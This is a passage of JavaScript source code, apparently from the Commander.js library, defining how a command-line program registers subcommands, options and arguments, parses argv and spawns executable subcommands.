  command(nameAndArgs, actionOptsOrExecDesc, execOpts) {
    let desc = actionOptsOrExecDesc;
    let opts = execOpts;
    if (typeof desc === 'object' && desc !== null) {
      opts = desc;
      desc = null;
    }
    opts = opts || {};
    const [, name, args] = nameAndArgs.match(/([^ ]+) *(.*)/);

    const cmd = this.createCommand(name);
    if (desc) {
      cmd.description(desc);
      cmd._executableHandler = true;
    }
    if (opts.isDefault) this._defaultCommandName = cmd._name;
    cmd._hidden = !!(opts.noHelp || opts.hidden); // noHelp is deprecated old name for hidden
    cmd._executableFile = opts.executableFile || null; // Custom name for executable file, set missing to null to match constructor
    if (args) cmd.arguments(args);
    this._registerCommand(cmd);
    cmd.parent = this;
    cmd.copyInheritedSettings(this);

    if (desc) return this;
    return cmd;
  }

  /**
   * Factory routine to create a new unattached command.
   *
   * See .command() for creating an attached subcommand, which uses this routine to
   * create the command. You can override createCommand to customise subcommands.
   *
   * @param {string} [name]
   * @return {Command} new command
   */

  createCommand(name) {
    return new Command(name);
  }

  /**
   * You can customise the help with a subclass of Help by overriding createHelp,
   * or by overriding Help properties using configureHelp().
   *
   * @return {Help}
   */

  createHelp() {
    return Object.assign(new Help(), this.configureHelp());
  }

  /**
   * You can customise the help by overriding Help properties using configureHelp(),
   * or with a subclass of Help by overriding createHelp().
   *
   * @param {object} [configuration] - configuration options
   * @return {(Command | object)} `this` command for chaining, or stored configuration
   */

  configureHelp(configuration) {
    if (configuration === undefined) return this._helpConfiguration;

    this._helpConfiguration = configuration;
    return this;
  }

  /**
   * The default output goes to stdout and stderr. You can customise this for special
   * applications. You can also customise the display of errors by overriding outputError.
   *
   * The configuration properties are all functions:
   *
   *     // change how output being written, defaults to stdout and stderr
   *     writeOut(str)
   *     writeErr(str)
   *     // change how output being written for errors, defaults to writeErr
   *     outputError(str, write) // used for displaying errors and not used for displaying help
   *     // specify width for wrapping help
   *     getOutHelpWidth()
   *     getErrHelpWidth()
   *     // color support, currently only used with Help
   *     getOutHasColors()
   *     getErrHasColors()
   *     stripColor() // used to remove ANSI escape codes if output does not have colors
   *
   * @param {object} [configuration] - configuration options
   * @return {(Command | object)} `this` command for chaining, or stored configuration
   */

  configureOutput(configuration) {
    if (configuration === undefined) return this._outputConfiguration;

    this._outputConfiguration = {
      ...this._outputConfiguration,
      ...configuration,
    };
    return this;
  }

  /**
   * Display the help or a custom message after an error occurs.
   *
   * @param {(boolean|string)} [displayHelp]
   * @return {Command} `this` command for chaining
   */
  showHelpAfterError(displayHelp = true) {
    if (typeof displayHelp !== 'string') displayHelp = !!displayHelp;
    this._showHelpAfterError = displayHelp;
    return this;
  }

  /**
   * Display suggestion of similar commands for unknown commands, or options for unknown options.
   *
   * @param {boolean} [displaySuggestion]
   * @return {Command} `this` command for chaining
   */
  showSuggestionAfterError(displaySuggestion = true) {
    this._showSuggestionAfterError = !!displaySuggestion;
    return this;
  }

  /**
   * Add a prepared subcommand.
   *
   * See .command() for creating an attached subcommand which inherits settings from its parent.
   *
   * @param {Command} cmd - new subcommand
   * @param {object} [opts] - configuration options
   * @return {Command} `this` command for chaining
   */

  addCommand(cmd, opts) {
    if (!cmd._name) {
      throw new Error(`Command passed to .addCommand() must have a name
- specify the name in Command constructor or using .name()`);
    }

    opts = opts || {};
    if (opts.isDefault) this._defaultCommandName = cmd._name;
    if (opts.noHelp || opts.hidden) cmd._hidden = true; // modifying passed command due to existing implementation

    this._registerCommand(cmd);
    cmd.parent = this;
    cmd._checkForBrokenPassThrough();

    return this;
  }

  /**
   * Factory routine to create a new unattached argument.
   *
   * See .argument() for creating an attached argument, which uses this routine to
   * create the argument. You can override createArgument to return a custom argument.
   *
   * @param {string} name
   * @param {string} [description]
   * @return {Argument} new argument
   */

  createArgument(name, description) {
    return new Argument(name, description);
  }

  /**
   * Define argument syntax for command.
   *
   * The default is that the argument is required, and you can explicitly
   * indicate this with <> around the name. Put [] around the name for an optional argument.
   *
   * @example
   * program.argument('<input-file>');
   * program.argument('[output-file]');
   *
   * @param {string} name
   * @param {string} [description]
   * @param {(Function|*)} [parseArg] - custom argument processing function or default value
   * @param {*} [defaultValue]
   * @return {Command} `this` command for chaining
   */
  argument(name, description, parseArg, defaultValue) {
    const argument = this.createArgument(name, description);
    if (typeof parseArg === 'function') {
      argument.default(defaultValue).argParser(parseArg);
    } else {
      argument.default(parseArg);
    }
    this.addArgument(argument);
    return this;
  }

  /**
   * Define argument syntax for command, adding multiple at once (without descriptions).
   *
   * See also .argument().
   *
   * @example
   * program.arguments('<cmd> [env]');
   *
   * @param {string} names
   * @return {Command} `this` command for chaining
   */

  arguments(names) {
    names
      .trim()
      .split(/ +/)
      .forEach((detail) => {
        this.argument(detail);
      });
    return this;
  }

  /**
   * Define argument syntax for command, adding a prepared argument.
   *
   * @param {Argument} argument
   * @return {Command} `this` command for chaining
   */
  addArgument(argument) {
    const previousArgument = this.registeredArguments.slice(-1)[0];
    if (previousArgument?.variadic) {
      throw new Error(
        `only the last argument can be variadic '${previousArgument.name()}'`,
      );
    }
    if (
      argument.required &&
      argument.defaultValue !== undefined &&
      argument.parseArg === undefined
    ) {
      throw new Error(
        `a default value for a required argument is never used: '${argument.name()}'`,
      );
    }
    this.registeredArguments.push(argument);
    return this;
  }

  /**
   * Customise or override default help command. By default a help command is automatically added if your command has subcommands.
   *
   * @example
   *    program.helpCommand('help [cmd]');
   *    program.helpCommand('help [cmd]', 'show help');
   *    program.helpCommand(false); // suppress default help command
   *    program.helpCommand(true); // add help command even if no subcommands
   *
   * @param {string|boolean} enableOrNameAndArgs - enable with custom name and/or arguments, or boolean to override whether added
   * @param {string} [description] - custom description
   * @return {Command} `this` command for chaining
   */

  helpCommand(enableOrNameAndArgs, description) {
    if (typeof enableOrNameAndArgs === 'boolean') {
      this._addImplicitHelpCommand = enableOrNameAndArgs;
      if (enableOrNameAndArgs && this._defaultCommandGroup) {
        // make the command to store the group
        this._initCommandGroup(this._getHelpCommand());
      }
      return this;
    }

    const nameAndArgs = enableOrNameAndArgs ?? 'help [command]';
    const [, helpName, helpArgs] = nameAndArgs.match(/([^ ]+) *(.*)/);
    const helpDescription = description ?? 'display help for command';

    const helpCommand = this.createCommand(helpName);
    helpCommand.helpOption(false);
    if (helpArgs) helpCommand.arguments(helpArgs);
    if (helpDescription) helpCommand.description(helpDescription);

    this._addImplicitHelpCommand = true;
    this._helpCommand = helpCommand;
    // init group unless lazy create
    if (enableOrNameAndArgs || description) this._initCommandGroup(helpCommand);

    return this;
  }

  /**
   * Add prepared custom help command.
   *
   * @param {(Command|string|boolean)} helpCommand - custom help command, or deprecated enableOrNameAndArgs as for `.helpCommand()`
   * @param {string} [deprecatedDescription] - deprecated custom description used with custom name only
   * @return {Command} `this` command for chaining
   */
  addHelpCommand(helpCommand, deprecatedDescription) {
    // If not passed an object, call through to helpCommand for backwards compatibility,
    // as addHelpCommand was originally used like helpCommand is now.
    if (typeof helpCommand !== 'object') {
      this.helpCommand(helpCommand, deprecatedDescription);
      return this;
    }

    this._addImplicitHelpCommand = true;
    this._helpCommand = helpCommand;
    this._initCommandGroup(helpCommand);
    return this;
  }

  /**
   * Lazy create help command.
   *
   * @return {(Command|null)}
   * @package
   */
  _getHelpCommand() {
    const hasImplicitHelpCommand =
      this._addImplicitHelpCommand ??
      (this.commands.length &&
        !this._actionHandler &&
        !this._findCommand('help'));

    if (hasImplicitHelpCommand) {
      if (this._helpCommand === undefined) {
        this.helpCommand(undefined, undefined); // use default name and description
      }
      return this._helpCommand;
    }
    return null;
  }

  /**
   * Add hook for life cycle event.
   *
   * @param {string} event
   * @param {Function} listener
   * @return {Command} `this` command for chaining
   */

  hook(event, listener) {
    const allowedValues = ['preSubcommand', 'preAction', 'postAction'];
    if (!allowedValues.includes(event)) {
      throw new Error(`Unexpected value for event passed to hook : '${event}'.
Expecting one of '${allowedValues.join("', '")}'`);
    }
    if (this._lifeCycleHooks[event]) {
      this._lifeCycleHooks[event].push(listener);
    } else {
      this._lifeCycleHooks[event] = [listener];
    }
    return this;
  }

  /**
   * Register callback to use as replacement for calling process.exit.
   *
   * @param {Function} [fn] optional callback which will be passed a CommanderError, defaults to throwing
   * @return {Command} `this` command for chaining
   */

  exitOverride(fn) {
    if (fn) {
      this._exitCallback = fn;
    } else {
      this._exitCallback = (err) => {
        if (err.code !== 'commander.executeSubCommandAsync') {
          throw err;
        } else {
          // Async callback from spawn events, not useful to throw.
        }
      };
    }
    return this;
  }

  /**
   * Call process.exit, and _exitCallback if defined.
   *
   * @param {number} exitCode exit code for using with process.exit
   * @param {string} code an id string representing the error
   * @param {string} message human-readable description of the error
   * @return never
   * @private
   */

  _exit(exitCode, code, message) {
    if (this._exitCallback) {
      this._exitCallback(new CommanderError(exitCode, code, message));
      // Expecting this line is not reached.
    }
    process.exit(exitCode);
  }

  /**
   * Register callback `fn` for the command.
   *
   * @example
   * program
   *   .command('serve')
   *   .description('start service')
   *   .action(function() {
   *      // do work here
   *   });
   *
   * @param {Function} fn
   * @return {Command} `this` command for chaining
   */

  action(fn) {
    const listener = (args) => {
      // The .action callback takes an extra parameter which is the command or options.
      const expectedArgsCount = this.registeredArguments.length;
      const actionArgs = args.slice(0, expectedArgsCount);
      if (this._storeOptionsAsProperties) {
        actionArgs[expectedArgsCount] = this; // backwards compatible "options"
      } else {
        actionArgs[expectedArgsCount] = this.opts();
      }
      actionArgs.push(this);

      return fn.apply(this, actionArgs);
    };
    this._actionHandler = listener;
    return this;
  }

  /**
   * Factory routine to create a new unattached option.
   *
   * See .option() for creating an attached option, which uses this routine to
   * create the option. You can override createOption to return a custom option.
   *
   * @param {string} flags
   * @param {string} [description]
   * @return {Option} new option
   */

  createOption(flags, description) {
    return new Option(flags, description);
  }

  /**
   * Wrap parseArgs to catch 'commander.invalidArgument'.
   *
   * @param {(Option | Argument)} target
   * @param {string} value
   * @param {*} previous
   * @param {string} invalidArgumentMessage
   * @private
   */

  _callParseArg(target, value, previous, invalidArgumentMessage) {
    try {
      return target.parseArg(value, previous);
    } catch (err) {
      if (err.code === 'commander.invalidArgument') {
        const message = `${invalidArgumentMessage} ${err.message}`;
        this.error(message, { exitCode: err.exitCode, code: err.code });
      }
      throw err;
    }
  }

  /**
   * Check for option flag conflicts.
   * Register option if no conflicts found, or throw on conflict.
   *
   * @param {Option} option
   * @private
   */

  _registerOption(option) {
    const matchingOption =
      (option.short && this._findOption(option.short)) ||
      (option.long && this._findOption(option.long));
    if (matchingOption) {
      const matchingFlag =
        option.long && this._findOption(option.long)
          ? option.long
          : option.short;
      throw new Error(`Cannot add option '${option.flags}'${this._name && ` to command '${this._name}'`} due to conflicting flag '${matchingFlag}'
-  already used by option '${matchingOption.flags}'`);
    }

    this._initOptionGroup(option);
    this.options.push(option);
  }

  /**
   * Check for command name and alias conflicts with existing commands.
   * Register command if no conflicts found, or throw on conflict.
   *
   * @param {Command} command
   * @private
   */

  _registerCommand(command) {
    const knownBy = (cmd) => {
      return [cmd.name()].concat(cmd.aliases());
    };

    const alreadyUsed = knownBy(command).find((name) =>
      this._findCommand(name),
    );
    if (alreadyUsed) {
      const existingCmd = knownBy(this._findCommand(alreadyUsed)).join('|');
      const newCmd = knownBy(command).join('|');
      throw new Error(
        `cannot add command '${newCmd}' as already have command '${existingCmd}'`,
      );
    }

    this._initCommandGroup(command);
    this.commands.push(command);
  }

  /**
   * Add an option.
   *
   * @param {Option} option
   * @return {Command} `this` command for chaining
   */
  addOption(option) {
    this._registerOption(option);

    const oname = option.name();
    const name = option.attributeName();

    // store default value
    if (option.negate) {
      // --no-foo is special and defaults foo to true, unless a --foo option is already defined
      const positiveLongFlag = option.long.replace(/^--no-/, '--');
      if (!this._findOption(positiveLongFlag)) {
        this.setOptionValueWithSource(
          name,
          option.defaultValue === undefined ? true : option.defaultValue,
          'default',
        );
      }
    } else if (option.defaultValue !== undefined) {
      this.setOptionValueWithSource(name, option.defaultValue, 'default');
    }

    // handler for cli and env supplied values
    const handleOptionValue = (val, invalidValueMessage, valueSource) => {
      // val is null for optional option used without an optional-argument.
      // val is undefined for boolean and negated option.
      if (val == null && option.presetArg !== undefined) {
        val = option.presetArg;
      }

      // custom processing
      const oldValue = this.getOptionValue(name);
      if (val !== null && option.parseArg) {
        val = this._callParseArg(option, val, oldValue, invalidValueMessage);
      } else if (val !== null && option.variadic) {
        val = option._collectValue(val, oldValue);
      }

      // Fill-in appropriate missing values. Long winded but easy to follow.
      if (val == null) {
        if (option.negate) {
          val = false;
        } else if (option.isBoolean() || option.optional) {
          val = true;
        } else {
          val = ''; // not normal, parseArg might have failed or be a mock function for testing
        }
      }
      this.setOptionValueWithSource(name, val, valueSource);
    };

    this.on('option:' + oname, (val) => {
      const invalidValueMessage = `error: option '${option.flags}' argument '${val}' is invalid.`;
      handleOptionValue(val, invalidValueMessage, 'cli');
    });

    if (option.envVar) {
      this.on('optionEnv:' + oname, (val) => {
        const invalidValueMessage = `error: option '${option.flags}' value '${val}' from env '${option.envVar}' is invalid.`;
        handleOptionValue(val, invalidValueMessage, 'env');
      });
    }

    return this;
  }

  /**
   * Internal implementation shared by .option() and .requiredOption()
   *
   * @return {Command} `this` command for chaining
   * @private
   */
  _optionEx(config, flags, description, fn, defaultValue) {
    if (typeof flags === 'object' && flags instanceof Option) {
      throw new Error(
        'To add an Option object use addOption() instead of option() or requiredOption()',
      );
    }
    const option = this.createOption(flags, description);
    option.makeOptionMandatory(!!config.mandatory);
    if (typeof fn === 'function') {
      option.default(defaultValue).argParser(fn);
    } else if (fn instanceof RegExp) {
      // deprecated
      const regex = fn;
      fn = (val, def) => {
        const m = regex.exec(val);
        return m ? m[0] : def;
      };
      option.default(defaultValue).argParser(fn);
    } else {
      option.default(fn);
    }

    return this.addOption(option);
  }

  /**
   * Define option with `flags`, `description`, and optional argument parsing function or `defaultValue` or both.
   *
   * The `flags` string contains the short and/or long flags, separated by comma, a pipe or space. A required
   * option-argument is indicated by `<>` and an optional option-argument by `[]`.
   *
   * See the README for more details, and see also addOption() and requiredOption().
   *
   * @example
   * program
   *     .option('-p, --pepper', 'add pepper')
   *     .option('--pt, --pizza-type <TYPE>', 'type of pizza') // required option-argument
   *     .option('-c, --cheese [CHEESE]', 'add extra cheese', 'mozzarella') // optional option-argument with default
   *     .option('-t, --tip <VALUE>', 'add tip to purchase cost', parseFloat) // custom parse function
   *
   * @param {string} flags
   * @param {string} [description]
   * @param {(Function|*)} [parseArg] - custom option processing function or default value
   * @param {*} [defaultValue]
   * @return {Command} `this` command for chaining
   */

  option(flags, description, parseArg, defaultValue) {
    return this._optionEx({}, flags, description, parseArg, defaultValue);
  }

  /**
   * Add a required option which must have a value after parsing. This usually means
   * the option must be specified on the command line. (Otherwise the same as .option().)
   *
   * The `flags` string contains the short and/or long flags, separated by comma, a pipe or space.
   *
   * @param {string} flags
   * @param {string} [description]
   * @param {(Function|*)} [parseArg] - custom option processing function or default value
   * @param {*} [defaultValue]
   * @return {Command} `this` command for chaining
   */

  requiredOption(flags, description, parseArg, defaultValue) {
    return this._optionEx(
      { mandatory: true },
      flags,
      description,
      parseArg,
      defaultValue,
    );
  }

  /**
   * Alter parsing of short flags with optional values.
   *
   * @example
   * // for `.option('-f,--flag [value]'):
   * program.combineFlagAndOptionalValue(true);  // `-f80` is treated like `--flag=80`, this is the default behaviour
   * program.combineFlagAndOptionalValue(false) // `-fb` is treated like `-f -b`
   *
   * @param {boolean} [combine] - if `true` or omitted, an optional value can be specified directly after the flag.
   * @return {Command} `this` command for chaining
   */
  combineFlagAndOptionalValue(combine = true) {
    this._combineFlagAndOptionalValue = !!combine;
    return this;
  }

  /**
   * Allow unknown options on the command line.
   *
   * @param {boolean} [allowUnknown] - if `true` or omitted, no error will be thrown for unknown options.
   * @return {Command} `this` command for chaining
   */
  allowUnknownOption(allowUnknown = true) {
    this._allowUnknownOption = !!allowUnknown;
    return this;
  }

  /**
   * Allow excess command-arguments on the command line. Pass false to make excess arguments an error.
   *
   * @param {boolean} [allowExcess] - if `true` or omitted, no error will be thrown for excess arguments.
   * @return {Command} `this` command for chaining
   */
  allowExcessArguments(allowExcess = true) {
    this._allowExcessArguments = !!allowExcess;
    return this;
  }

  /**
   * Enable positional options. Positional means global options are specified before subcommands which lets
   * subcommands reuse the same option names, and also enables subcommands to turn on passThroughOptions.
   * The default behaviour is non-positional and global options may appear anywhere on the command line.
   *
   * @param {boolean} [positional]
   * @return {Command} `this` command for chaining
   */
  enablePositionalOptions(positional = true) {
    this._enablePositionalOptions = !!positional;
    return this;
  }

  /**
   * Pass through options that come after command-arguments rather than treat them as command-options,
   * so actual command-options come before command-arguments. Turning this on for a subcommand requires
   * positional options to have been enabled on the program (parent commands).
   * The default behaviour is non-positional and options may appear before or after command-arguments.
   *
   * @param {boolean} [passThrough] for unknown options.
   * @return {Command} `this` command for chaining
   */
  passThroughOptions(passThrough = true) {
    this._passThroughOptions = !!passThrough;
    this._checkForBrokenPassThrough();
    return this;
  }

  /**
   * @private
   */

  _checkForBrokenPassThrough() {
    if (
      this.parent &&
      this._passThroughOptions &&
      !this.parent._enablePositionalOptions
    ) {
      throw new Error(
        `passThroughOptions cannot be used for '${this._name}' without turning on enablePositionalOptions for parent command(s)`,
      );
    }
  }

  /**
   * Whether to store option values as properties on command object,
   * or store separately (specify false). In both cases the option values can be accessed using .opts().
   *
   * @param {boolean} [storeAsProperties=true]
   * @return {Command} `this` command for chaining
   */

  storeOptionsAsProperties(storeAsProperties = true) {
    if (this.options.length) {
      throw new Error('call .storeOptionsAsProperties() before adding options');
    }
    if (Object.keys(this._optionValues).length) {
      throw new Error(
        'call .storeOptionsAsProperties() before setting option values',
      );
    }
    this._storeOptionsAsProperties = !!storeAsProperties;
    return this;
  }

  /**
   * Retrieve option value.
   *
   * @param {string} key
   * @return {object} value
   */

  getOptionValue(key) {
    if (this._storeOptionsAsProperties) {
      return this[key];
    }
    return this._optionValues[key];
  }

  /**
   * Store option value.
   *
   * @param {string} key
   * @param {object} value
   * @return {Command} `this` command for chaining
   */

  setOptionValue(key, value) {
    return this.setOptionValueWithSource(key, value, undefined);
  }

  /**
   * Store option value and where the value came from.
   *
   * @param {string} key
   * @param {object} value
   * @param {string} source - expected values are default/config/env/cli/implied
   * @return {Command} `this` command for chaining
   */

  setOptionValueWithSource(key, value, source) {
    if (this._storeOptionsAsProperties) {
      this[key] = value;
    } else {
      this._optionValues[key] = value;
    }
    this._optionValueSources[key] = source;
    return this;
  }

  /**
   * Get source of option value.
   * Expected values are default | config | env | cli | implied
   *
   * @param {string} key
   * @return {string}
   */

  getOptionValueSource(key) {
    return this._optionValueSources[key];
  }

  /**
   * Get source of option value. See also .optsWithGlobals().
   * Expected values are default | config | env | cli | implied
   *
   * @param {string} key
   * @return {string}
   */

  getOptionValueSourceWithGlobals(key) {
    // global overwrites local, like optsWithGlobals
    let source;
    this._getCommandAndAncestors().forEach((cmd) => {
      if (cmd.getOptionValueSource(key) !== undefined) {
        source = cmd.getOptionValueSource(key);
      }
    });
    return source;
  }

  /**
   * Get user arguments from implied or explicit arguments.
   * Side-effects: set _scriptPath if args included script. Used for default program name, and subcommand searches.
   *
   * @private
   */

  _prepareUserArgs(argv, parseOptions) {
    if (argv !== undefined && !Array.isArray(argv)) {
      throw new Error('first parameter to parse must be array or undefined');
    }
    parseOptions = parseOptions || {};

    // auto-detect argument conventions if nothing supplied
    if (argv === undefined && parseOptions.from === undefined) {
      if (process.versions?.electron) {
        parseOptions.from = 'electron';
      }
      // check node specific options for scenarios where user CLI args follow executable without scriptname
      const execArgv = process.execArgv ?? [];
      if (
        execArgv.includes('-e') ||
        execArgv.includes('--eval') ||
        execArgv.includes('-p') ||
        execArgv.includes('--print')
      ) {
        parseOptions.from = 'eval'; // internal usage, not documented
      }
    }

    // default to using process.argv
    if (argv === undefined) {
      argv = process.argv;
    }
    this.rawArgs = argv.slice();

    // extract the user args and scriptPath
    let userArgs;
    switch (parseOptions.from) {
      case undefined:
      case 'node':
        this._scriptPath = argv[1];
        userArgs = argv.slice(2);
        break;
      case 'electron':
        // @ts-ignore: because defaultApp is an unknown property
        if (process.defaultApp) {
          this._scriptPath = argv[1];
          userArgs = argv.slice(2);
        } else {
          userArgs = argv.slice(1);
        }
        break;
      case 'user':
        userArgs = argv.slice(0);
        break;
      case 'eval':
        userArgs = argv.slice(1);
        break;
      default:
        throw new Error(
          `unexpected parse option { from: '${parseOptions.from}' }`,
        );
    }

    // Find default name for program from arguments.
    if (!this._name && this._scriptPath)
      this.nameFromFilename(this._scriptPath);
    this._name = this._name || 'program';

    return userArgs;
  }

  /**
   * Parse `argv`, setting options and invoking commands when defined.
   *
   * Use parseAsync instead of parse if any of your action handlers are async.
   *
   * Call with no parameters to parse `process.argv`. Detects Electron and special node options like `node --eval`. Easy mode!
   *
   * Or call with an array of strings to parse, and optionally where the user arguments start by specifying where the arguments are `from`:
   * - `'node'`: default, `argv[0]` is the application and `argv[1]` is the script being run, with user arguments after that
   * - `'electron'`: `argv[0]` is the application and `argv[1]` varies depending on whether the electron application is packaged
   * - `'user'`: just user arguments
   *
   * @example
   * program.parse(); // parse process.argv and auto-detect electron and special node flags
   * program.parse(process.argv); // assume argv[0] is app and argv[1] is script
   * program.parse(my-args, { from: 'user' }); // just user supplied arguments, nothing special about argv[0]
   *
   * @param {string[]} [argv] - optional, defaults to process.argv
   * @param {object} [parseOptions] - optionally specify style of options with from: node/user/electron
   * @param {string} [parseOptions.from] - where the args are from: 'node', 'user', 'electron'
   * @return {Command} `this` command for chaining
   */

  parse(argv, parseOptions) {
    this._prepareForParse();
    const userArgs = this._prepareUserArgs(argv, parseOptions);
    this._parseCommand([], userArgs);

    return this;
  }

  /**
   * Parse `argv`, setting options and invoking commands when defined.
   *
   * Call with no parameters to parse `process.argv`. Detects Electron and special node options like `node --eval`. Easy mode!
   *
   * Or call with an array of strings to parse, and optionally where the user arguments start by specifying where the arguments are `from`:
   * - `'node'`: default, `argv[0]` is the application and `argv[1]` is the script being run, with user arguments after that
   * - `'electron'`: `argv[0]` is the application and `argv[1]` varies depending on whether the electron application is packaged
   * - `'user'`: just user arguments
   *
   * @example
   * await program.parseAsync(); // parse process.argv and auto-detect electron and special node flags
   * await program.parseAsync(process.argv); // assume argv[0] is app and argv[1] is script
   * await program.parseAsync(my-args, { from: 'user' }); // just user supplied arguments, nothing special about argv[0]
   *
   * @param {string[]} [argv]
   * @param {object} [parseOptions]
   * @param {string} parseOptions.from - where the args are from: 'node', 'user', 'electron'
   * @return {Promise}
   */

  async parseAsync(argv, parseOptions) {
    this._prepareForParse();
    const userArgs = this._prepareUserArgs(argv, parseOptions);
    await this._parseCommand([], userArgs);

    return this;
  }

  _prepareForParse() {
    if (this._savedState === null) {
      this.saveStateBeforeParse();
    } else {
      this.restoreStateBeforeParse();
    }
  }

  /**
   * Called the first time parse is called to save state and allow a restore before subsequent calls to parse.
   * Not usually called directly, but available for subclasses to save their custom state.
   *
   * This is called in a lazy way. Only commands used in parsing chain will have state saved.
   */
  saveStateBeforeParse() {
    this._savedState = {
      // name is stable if supplied by author, but may be unspecified for root command and deduced during parsing
      _name: this._name,
      // option values before parse have default values (including false for negated options)
      // shallow clones
      _optionValues: { ...this._optionValues },
      _optionValueSources: { ...this._optionValueSources },
    };
  }

  /**
   * Restore state before parse for calls after the first.
   * Not usually called directly, but available for subclasses to save their custom state.
   *
   * This is called in a lazy way. Only commands used in parsing chain will have state restored.
   */
  restoreStateBeforeParse() {
    if (this._storeOptionsAsProperties)
      throw new Error(`Can not call parse again when storeOptionsAsProperties is true.
- either make a new Command for each call to parse, or stop storing options as properties`);

    // clear state from _prepareUserArgs
    this._name = this._savedState._name;
    this._scriptPath = null;
    this.rawArgs = [];
    // clear state from setOptionValueWithSource
    this._optionValues = { ...this._savedState._optionValues };
    this._optionValueSources = { ...this._savedState._optionValueSources };
    // clear state from _parseCommand
    this.args = [];
    // clear state from _processArguments
    this.processedArgs = [];
  }

  /**
   * Throw if expected executable is missing. Add lots of help for author.
   *
   * @param {string} executableFile
   * @param {string} executableDir
   * @param {string} subcommandName
   */
  _checkForMissingExecutable(executableFile, executableDir, subcommandName) {
    if (fs.existsSync(executableFile)) return;

    const executableDirMessage = executableDir
      ? `searched for local subcommand relative to directory '${executableDir}'`
      : 'no directory for search for local subcommand, use .executableDir() to supply a custom directory';
    const executableMissing = `'${executableFile}' does not exist
 - if '${subcommandName}' is not meant to be an executable command, remove description parameter from '.command()' and use '.description()' instead
 - if the default executable name is not suitable, use the executableFile option to supply a custom name or path
 - ${executableDirMessage}`;
    throw new Error(executableMissing);
  }

  /**
   * Execute a sub-command executable.
   *
   * @private
   */

  _executeSubCommand(subcommand, args) {
    args = args.slice();
    let launchWithNode = false; // Use node for source targets so do not need to get permissions correct, and on Windows.
    const sourceExt = ['.js', '.ts', '.tsx', '.mjs', '.cjs'];

    function findFile(baseDir, baseName) {
      // Look for specified file
      const localBin = path.resolve(baseDir, baseName);
      if (fs.existsSync(localBin)) return localBin;

      // Stop looking if candidate already has an expected extension.
      if (sourceExt.includes(path.extname(baseName))) return undefined;

      // Try all the extensions.
      const foundExt = sourceExt.find((ext) =>
        fs.existsSync(`${localBin}${ext}`),
      );
      if (foundExt) return `${localBin}${foundExt}`;

      return undefined;
    }

    // Not checking for help first. Unlikely to have mandatory and executable, and can't robustly test for help flags in external command.
    this._checkForMissingMandatoryOptions();
    this._checkForConflictingOptions();

    // executableFile and executableDir might be full path, or just a name
    let executableFile =
      subcommand._executableFile || `${this._name}-${subcommand._name}`;
    let executableDir = this._executableDir || '';
    if (this._scriptPath) {
      let resolvedScriptPath; // resolve possible symlink for installed npm binary
      try {
        resolvedScriptPath = fs.realpathSync(this._scriptPath);
      } catch {
        resolvedScriptPath = this._scriptPath;
      }
      executableDir = path.resolve(
        path.dirname(resolvedScriptPath),
        executableDir,
      );
    }

    // Look for a local file in preference to a command in PATH.
    if (executableDir) {
      let localFile = findFile(executableDir, executableFile);

      // Legacy search using prefix of script name instead of command name
      if (!localFile && !subcommand._executableFile && this._scriptPath) {
        const legacyName = path.basename(
          this._scriptPath,
          path.extname(this._scriptPath),
        );
        if (legacyName !== this._name) {
          localFile = findFile(
            executableDir,
            `${legacyName}-${subcommand._name}`,
          );
        }
      }
      executableFile = localFile || executableFile;
    }

    launchWithNode = sourceExt.includes(path.extname(executableFile));

    let proc;
    if (process.platform !== 'win32') {
      if (launchWithNode) {
        args.unshift(executableFile);
        // add executable arguments to spawn
        args = incrementNodeInspectorPort(process.execArgv).concat(args);

        proc = childProcess.spawn(process.argv[0], args, { stdio: 'inherit' });
      } else {
        proc = childProcess.spawn(executableFile, args, { stdio: 'inherit' });
      }
    } else {
      this._checkForMissingExecutable(
        executableFile,
        executableDir,
        subcommand._name,
      );
      args.unshift(executableFile);
      // add executable arguments to spawn
      args = incrementNodeInspectorPort(process.execArgv).concat(args);
      proc = childProcess.spawn(process.execPath, args, { stdio: 'inherit' });
    }

    if (!proc.killed) {
      // testing mainly to avoid leak warnings during unit tests with mocked spawn
      const signals = ['SIGUSR1', 'SIGUSR2', 'SIGTERM', 'SIGINT', 'SIGHUP'];
      signals.forEach((signal) => {
        process.on(signal, () => {
          if (proc.killed === false && proc.exitCode === null) {
            // @ts-ignore because signals not typed to known strings
            proc.kill(signal);
          }
        });
      });
    }

    // By default terminate process when spawned process terminates.
    const exitCallback = this._exitCallback;
    proc.on('close', (code) => {
      code = code ?? 1; // code is null if spawned process terminated due to a signal
      if (!exitCallback) {
        process.exit(code);
      } else {
        exitCallback(
          new CommanderError(
            code,
            'commander.executeSubCommandAsync',
            '(close)',
          ),
        );
      }
    });
    proc.on('error', (err) => {
      // @ts-ignore: because err.code is an unknown property
      if (err.code === 'ENOENT') {
        this._checkForMissingExecutable(
          executableFile,
          executableDir,
          subcommand._name,
        );
        // @ts-ignore: because err.code is an unknown property
      } else if (err.code === 'EACCES') {
        throw new Error(`'${executableFile}' not executable`);
      }
      if (!exitCallback) {
        process.exit(1);
      } else {
        const wrappedError = new CommanderError(
          1,
          'commander.executeSubCommandAsync',
          '(error)',
        );
        wrappedError.nestedError = err;
        exitCallback(wrappedError);
      }
    });

    // Store the reference to the child process
    this.runningCommand = proc;
  }

  /**
   * @private
   */

  _dispatchSubcommand(commandName, operands, unknown) {
    const subCommand = this._findCommand(commandName);
    if (!subCommand) this.help({ error: true });

    subCommand._prepareForParse();
    let promiseChain;
    promiseChain = this._chainOrCallSubCommandHook(
      promiseChain,
      subCommand,
      'preSubcommand',
    );
    promiseChain = this._chainOrCall(promiseChain, () => {
      if (subCommand._executableHandler) {
        this._executeSubCommand(subCommand, operands.concat(unknown));
      } else {
        return subCommand._parseCommand(operands, unknown);
      }
    });
    return promiseChain;
  }

  /**
   * Invoke help directly if possible, or dispatch if necessary.
   * e.g. help foo
   *
   * @private
   */

  _dispatchHelpCommand(subcommandName) {
    if (!subcommandName) {
      this.help();
    }
    const subCommand = this._findCommand(subcommandName);
    if (subCommand && !subCommand._executableHandler) {
      subCommand.help();
    }

    // Fallback to parsing the help flag to invoke the help.
    return this._dispatchSubcommand(
      subcommandName,
      [],
      [this._getHelpOption()?.long ?? this._getHelpOption()?.short ?? '--help'],
    );
  }

  /**
   * Check this.args against expected this.registeredArguments.
   *
   * @private
   */

  _checkNumberOfArguments() {
    // too few
    this.registeredArguments.forEach((arg, i) => {
      if (arg.required && this.args[i] == null) {
        this.missingArgument(arg.name());
      }
    });
    // too many
    if (
      this.registeredArguments.length > 0 &&
      this.registeredArguments[this.registeredArguments.length - 1].variadic
    ) {
      return;
    }
    if (this.args.length > this.registeredArguments.length) {
      this._excessArguments(this.args);
    }
  }

  /**
